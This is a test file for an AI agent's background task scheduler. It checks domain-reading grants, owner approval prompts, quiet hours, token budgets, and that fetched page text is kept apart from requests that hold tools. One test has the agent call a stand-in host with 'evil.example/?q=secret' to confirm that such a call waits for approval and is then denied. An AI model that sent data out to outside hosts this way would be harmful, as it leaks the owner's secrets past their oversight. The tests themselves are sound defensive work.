"""Tasks of the owner: a sentence that is carried out in the background, with the zones and the gateway of a turn."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from constance import config
from django.test import Client

from agents.gateway import call as gateway_call
from agents.gateway import questions
from agents.gateway.catalog import Tool
from agents.gateway.open_page import resolve
from agents.gateway.permits import permit
from agents.models import Day, Run, Schedule, Step
from agents.runs.context import Content, Context
from agents.schedules import start as schedules_start
from agents.worker import tick
from agents.zones.reader_answers import Claim, Reading
from devices import events, protocol
from devices.grants import ask_texts, asks
from devices.models import Ask, Delivery, Device, Grant, Message
from devices.owner import muting
from devices.owner.account import the_owner
from tests.agents.background import Clock, carry_out_all, connect_browser, moved, use_model
from tests.agents.outbox.send_message import answer, tell
from tests.stand_ins.articles import WATER
from tests.stand_ins.model_script import zone
from tests.stand_ins.model_server import ModelServer, Reply, ToolUse, text
from thoughts.models import Page, Preference

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("redis")]
NOON = datetime(2026, 6, 1, 12, tzinfo=UTC)
URL = "https://coffee.example/water"
TASK = f"How hot is the water according to {URL} ?"


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch, model: ModelServer) -> Clock:
    config.TIMEZONE = "Europe/Berlin"
    use_model(monkeypatch, model)
    Schedule.objects.all().delete()
    return moved(monkeypatch, NOON)


@pytest.fixture
def browser(clock: Clock, monkeypatch: pytest.MonkeyPatch) -> Device:
    """A browser that is connected. What it and the reader would bring back is there already; the gateway and the grants
    are real.
    """

    async def browse(context: Context, tool: Tool, arguments: Any, step: Step) -> Content:
        url, is_known = resolve(context, arguments.url)
        await permit(context, tool, url, is_known=is_known)
        page = await Page.objects.acreate(
            url=url, domain="coffee.example", title=WATER.title, text=WATER.text, extracted_with="text"
        )
        handle, words = context.handles.add_page(page, url, page.domain), WATER.paragraphs[0]
        start = WATER.text.index(words)
        claim = Claim(text=words[:300], quote=words, start=start, end=start + len(words))
        context.handles.add_reading(
            handle,
            page.domain,
            Reading(found=True, headline="", summary="", claims=[claim], link_indices=[], made_with="model"),
        )
        return {"handle": handle, "domain": page.domain, "found": True}

    monkeypatch.setitem(gateway_call.RUNNERS, "browse_url", browse)
    return connect_browser(clock.now)


def scheduled(task: str = TASK, **fields: Any) -> Schedule:
    return Schedule.objects.create(name="Mine", kind="task", task=task, rrule="FREQ=HOURLY;INTERVAL=1", **fields)


def run_now(schedule: Schedule) -> Run:
    schedules_start.run_now(schedule)
    return carry_out_all()[0]


def said() -> list[Message]:
    return list(Message.objects.order_by("seq"))


def answer_ask(decision: ask_texts.Decision) -> None:
    ask = Ask.objects.get(state="open")
    asks.answer(ask.prompt, decision, scope="always" if decision == "allow" else None)


def test_its_answer_becomes_a_message_with_the_owners_sentence_above_it(clock: Clock, model: ModelServer) -> None:
    run = run_now(scheduled("Write a line about rain"))
    [message] = said()
    assert message.text.startswith("> Write a line about rain\n\nYou said: Write a line about rain")
    assert (message.kind, message.direction, message.origin) == ("chat", "out", ["owner", "penny"])
    assert (run.state, run.outcome, run.answer) == ("done", "Answered in the conversation.", message)
    assert run.spent_tokens > 0


def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(
    clock: Clock, browser: Device, model: ModelServer
) -> None:
    Preference.objects.create(text="canary-preference")
    run_now(scheduled("Write a line about rain"))
    run_now(scheduled("Write a line about snow"))
    assert [request for request in model.requests if "canary" in request.everything] == []
    assert "rain" not in model.requests[-1].everything


def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(
    clock: Clock, browser: Device, model: ModelServer
) -> None:
    schedule = scheduled()
    run = run_now(schedule)
    assert (run.state, said()) == ("parked", [])
    assert run.outcome == "Waits for your answer: coffee.example"
    assert Ask.objects.get().text == f"To read a page there, for your task “{TASK[:120]}”."
    clock.move(hours=3)
    schedules_start.start_due(clock.now)
    assert Run.objects.filter(schedule=schedule).count() == 1  # it stands for the next occurrences too
    answer_ask("allow")
    [run] = carry_out_all()
    [message] = said()
    assert (run.state, message.origin) == ("done", ["coffee.example", "owner", "penny"])
    assert WATER.paragraphs[0] in message.text


def test_pages_and_tools_never_meet_in_one_request(clock: Clock, browser: Device, model: ModelServer) -> None:
    run_now(scheduled())
    answer_ask("allow")
    carry_out_all()
    assert {zone(request) for request in model.requests} == {"planner", "writer"}
    assert [request for request in model.requests if request.tools and WATER.paragraphs[0] in request.everything] == []


def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, browser: Device, model: ModelServer) -> None:
    run_now(scheduled())
    answer_ask("block")
    [run] = carry_out_all()
    assert run.state == "done"
    assert "That could not be read." in said()[0].text
    assert Ask.objects.count() == 1


def test_an_address_that_the_owner_did_not_write_is_asked_about_for_a_day(
    clock: Clock, browser: Device, model: ModelServer
) -> None:
    call = Reply(tools=(ToolUse("browse_url", {"url": "https://evil.example/?q=secret"}),))
    model.on(lambda request: zone(request) == "planner" and not request.tool_results, call)
    run = run_now(scheduled("Find something new"))
    ask = Ask.objects.get()
    assert (run.state, ask.kind, ask.is_background) == ("parked", "approval", True)
    assert ask.expires_at == NOON + timedelta(hours=24)
    answer_ask("deny")
    assert carry_out_all()[0].state == "done"
    assert not Page.objects.exists()


def test_the_same_answer_is_not_said_twice(clock: Clock, model: ModelServer) -> None:
    schedule = scheduled("Write a line about rain")
    run_now(schedule)
    assert run_now(schedule).outcome == "The same as last time, so nothing was said."
    model.on(lambda _: True, text("Something new."))
    run_now(schedule)
    assert len(said()) == 2


def test_a_failure_is_said_once_until_it_works_again(clock: Clock, model: ModelServer) -> None:
    schedule, outcomes = scheduled("Write a line"), []
    for works in (False, False, True, False):
        model.reset()
        if not works:
            model.on(lambda _: True, Reply(status=401))
        outcomes.append(run_now(schedule).state)
    assert outcomes == ["failed", "failed", "done", "failed"]
    assert [message.kind for message in said()] == ["failure", "chat", "failure"]


def test_when_the_day_is_used_up_it_waits_for_the_next_one(clock: Clock, model: ModelServer) -> None:
    config.QUIET_FROM, config.QUIET_TO = "22:00", "07:00"
    Day.objects.create(day=NOON.date(), tokens=10**6)
    run = run_now(scheduled("Write a line"))
    assert (run.state, run.outcome[:29], model.requests) == ("queued", "Paused until tomorrow, 00:00:", [])
    assert run.not_before == datetime(2026, 6, 2, 5, tzinfo=UTC)  # seven o'clock on the owner's clock
    clock.move(hours=17)
    [run] = carry_out_all()
    assert (run.state, run.error_code) == ("done", "")
    assert said()[-1].text.startswith("> Write a line")


def test_what_a_whole_day_is_not_enough_for_ends_and_says_so(clock: Clock, browser: Device, model: ModelServer) -> None:
    config.DAY_TOKENS_MAX = 1
    model.on(lambda request: zone(request) == "planner" and bool(request.tool_results), text("Go on."))
    schedule = scheduled(TASK)
    run_now(schedule)
    answer_ask("allow")
    assert carry_out_all()[0].state == "queued"
    clock.move(days=1)
    Schedule.objects.update(enabled=False)
    [run] = carry_out_all()
    assert (run.state, run.error_code) == ("failed", "day_tokens")
    assert [message.kind for message in said()] == ["failure"]


def test_without_a_model_it_says_what_a_task_can_be_then(
    clock: Clock, model: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("django.conf.settings.MODEL", None)
    run_now(scheduled("Write a line"))
    assert "Without a model I can only read the addresses that a task names" in said()[0].text


def test_its_page_shows_the_planner_and_the_message(clock: Clock, client: Client, model: ModelServer) -> None:
    client.force_login(the_owner())
    run = run_now(scheduled("Write a line <b>about rain</b>"))
    html = client.get(f"/runs/{run.pk}/").content.decode()
    assert "How Penny carried out" in html
    assert "Write a line &lt;b&gt;about rain&lt;/b&gt;" in html
    assert "<b>Planner</b> your words and tools" in html
    assert f"/chat/#m{said()[0].seq}" in html


def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(
    clock: Clock, browser: Device, model: ModelServer
) -> None:
    run_now(scheduled())
    [request] = model.requests
    assert (sorted(request.tools), request.last_user) == (["browse_url", "browse_urls", "search_web"], TASK)


def test_a_task_that_needs_several_sites_stops_at_one_question_and_resumes_after_a_word(
    clock: Clock, browser: Device, model: ModelServer
) -> None:
    urls = [f"https://{name}.example/water" for name in ("beans", "coffee", "water")]
    calls = Reply(tools=tuple(ToolUse("browse_url", {"url": url}) for url in urls))
    model.on(lambda request: zone(request) == "planner" and not request.tool_results, calls)
    run = run_now(scheduled(f"Compare {' '.join(urls)}"))
    [ask] = Ask.objects.all()
    assert (run.state, ask.kind) == ("parked", "approval")
    assert "beans.example, coffee.example and water.example, for your task" in ask.text
    clock.move(hours=5)
    assert carry_out_all() == []  # it waits, and nothing is refused
    assert "Allowed." in answer("/allow 1").text
    [run] = carry_out_all()
    assert (run.state, Page.objects.count()) == ("done", 3)
    assert not Grant.objects.exists()  # they were for this run


# What it may not do yet, and nobody can be asked about
# --------------------------------------------------------------------------


def answered_after(run: Run) -> Run:
    asks.answer(Ask.objects.open().get().prompt, "allow", scope="always")
    carry_out_all()
    run.refresh_from_db()
    return run


@pytest.mark.parametrize("days_muted", [3, None])
def test_who_is_muted_is_asked_once_they_are_not_and_has_their_whole_time_then(
    clock: Clock, browser: Device, model: ModelServer, days_muted: int | None
) -> None:
    Device.objects.create(label="Phone", kind=Device.Kind.PUSH, address="https://push.example/1")
    muting.mute(clock.now + timedelta(days=days_muted) if days_muted else None)
    run = run_now(scheduled())
    assert (run.state, Ask.objects.get().state) == ("parked", "open")
    clock.move(hours=48)
    tick.tick()
    assert (Ask.objects.get().state, Delivery.objects.count(), Day.objects.filter(interruptions__gt=0).exists()) == (
        "open",
        0,
        False,
    )
    muting.unmute()
    questions.tell_held(clock.now)
    ask = Ask.objects.get()
    assert (Delivery.objects.get().prompt, ask.held_until) == (ask.prompt, None)
    assert ask.expires_at == clock.now + asks.SHOWN_FOR
    assert answered_after(run).state == "done"


def test_who_was_asked_enough_today_is_asked_tomorrow(clock: Clock, browser: Device, model: ModelServer) -> None:
    Device.objects.create(label="Phone", kind=Device.Kind.PUSH, address="https://push.example/1")
    config.DAY_INTERRUPTIONS_MAX = 1
    Day.objects.create(day=clock.now.date(), interruptions=1)
    run = run_now(scheduled())
    assert (run.state, Delivery.objects.count(), Day.objects.get().interruptions) == ("parked", 0, 1)
    clock.move(hours=20)  # the next morning
    questions.tell_held(clock.now)
    assert Delivery.objects.get().prompt == Ask.objects.get().prompt
    assert Day.objects.get(day=clock.now.date()).interruptions == 1
    assert answered_after(run).state == "done"


def test_the_last_question_of_a_day_is_asked(clock: Clock, browser: Device, model: ModelServer) -> None:
    Device.objects.create(label="Phone", kind=Device.Kind.PUSH, address="https://push.example/1")
    config.DAY_INTERRUPTIONS_MAX = 1
    run_now(scheduled())
    assert (Delivery.objects.count(), Day.objects.get().interruptions) == (1, 1)


# What it asks where there are only browsers: it stands there until it is answered
# -------------------------------------------------


@pytest.fixture
def told(monkeypatch: pytest.MonkeyPatch) -> list[protocol.ServerFrame]:
    """What the sockets that are open are told of questions."""
    frames: list[protocol.ServerFrame] = []
    monkeypatch.setattr(events, "send_frame", lambda frame, *_: frames.append(frame))
    return frames


def shown() -> list[str]:
    """What a device that connects now shows."""
    return [str(frame.request_id) for frame in asks.shown_now()]


@pytest.mark.parametrize("hours", [0.1, 10, 40])
def test_a_question_of_it_is_shown_and_answered_by_a_word_as_long_as_it_waits(
    clock: Clock, browser: Device, told: list[protocol.ServerFrame], hours: float
) -> None:
    run = run_now(scheduled())
    prompt = str(Ask.objects.get().prompt)
    assert ([frame.type for frame in told], shown()) == (["grant.ask"], [prompt])
    for _ in range(10):
        clock.move(hours=hours / 10)
        tick.tick()
        assert shown() == [prompt]
    assert answer("yes, always").text == "I may read coffee.example always."
    assert ([frame.type for frame in told][-1], shown()) == ("grant.dismiss", [])
    carry_out_all()
    run.refresh_from_db()
    assert run.state == "done"


def test_after_days_of_silence_it_still_waits_and_was_asked_once(
    clock: Clock, browser: Device, told: list[protocol.ServerFrame]
) -> None:
    schedule = scheduled()
    run = run_now(schedule)
    for _ in range(7 * 24):
        clock.move(hours=1)
        assert carry_out_all() == []
    run.refresh_from_db()
    ask = Ask.objects.get()
    assert (run.state, ask.state, shown()) == ("parked", "open", [str(ask.prompt)])
    assert (said(), sum(Day.objects.values_list("interruptions", flat=True))) == ([], 1)
    assert {(frame.type, getattr(frame, "request_id", None)) for frame in told} == {
        ("grant.ask", ask.prompt)
    }  # in its place, for longer
    assert schedules_start.why_waiting(schedule, clock.now) == "It waits for your answer."
    assert answered_after(run).state == "done"


def test_a_machine_that_slept_for_days_asks_on_when_it_wakes(clock: Clock, browser: Device) -> None:
    run = run_now(scheduled())
    clock.move(hours=100)
    assert carry_out_all() == []
    assert (shown(), answered_after(run).state) == ([str(Ask.objects.get().prompt)], "done")


def test_what_arose_in_quiet_hours_is_shown_when_they_are_over(
    clock: Clock, browser: Device, told: list[protocol.ServerFrame]
) -> None:
    config.QUIET_FROM, config.QUIET_TO = "22:00", "07:00"
    clock.move(hours=10)  # midnight in Berlin
    run = run_now(scheduled(in_quiet_hours=True))
    clock.move(hours=1)
    again = run_now(scheduled(in_quiet_hours=True))
    assert (told, shown(), Ask.objects.open().count()) == ([], [], 2)
    answer("/status")  # she has said something else since it arose
    Message.objects.update(created_at=clock.now)
    clock.move(hours=7)
    tick.tick()
    [prompt] = shown()  # one for both
    assert {(frame.type, str(getattr(frame, "request_id", ""))) for frame in told} == {("grant.ask", prompt)}
    assert answer("always").text == "I may read coffee.example always."
    carry_out_all()
    assert [Run.objects.get(pk=each.pk).state for each in (run, again)] == ["done", "done"]


def test_a_plain_yes_at_night_is_no_answer_to_what_was_not_asked_yet(clock: Clock, browser: Device) -> None:
    config.QUIET_FROM, config.QUIET_TO = "22:00", "07:00"
    clock.move(hours=10)
    run_now(scheduled(in_quiet_hours=True))
    tell("yes")
    assert Ask.objects.get().state == "open"


def test_a_question_of_a_run_that_is_no_more_goes(clock: Clock, browser: Device) -> None:
    run = run_now(scheduled())
    Run.objects.filter(pk=run.pk).update(state="failed")
    clock.move(hours=13)
    tick.tick()
    assert (Ask.objects.get().state, shown()) == ("expired", [])


def test_a_question_for_what_was_called_off_goes_with_its_run(clock: Clock, browser: Device) -> None:
    schedule = scheduled()
    run = run_now(schedule)
    schedule.set_deleted(clock.now)
    clock.move(hours=13)
    assert carry_out_all() == []
    run.refresh_from_db()
    assert (run.state, Ask.objects.get().state, shown(), said()) == ("cancelled", "expired", [], [])


def test_a_turn_asks_for_its_minute_beside_it_and_one_answer_is_for_both(clock: Clock, browser: Device) -> None:
    run = run_now(scheduled())
    turn = tell("How is it brewed?")
    ask = asks.ask_grant(turn.pk, "coffee.example", "read", "To read a page there.", is_background=False)
    assert set(shown()) == {str(Ask.objects.get(run_id=run.pk).prompt), str(ask.prompt)}
    assert ask.prompt_until == clock.now + timedelta(minutes=1)
    asks.answer(ask.prompt, "allow", scope="always")
    assert (shown(), Ask.objects.open().exists()) == ([], False)
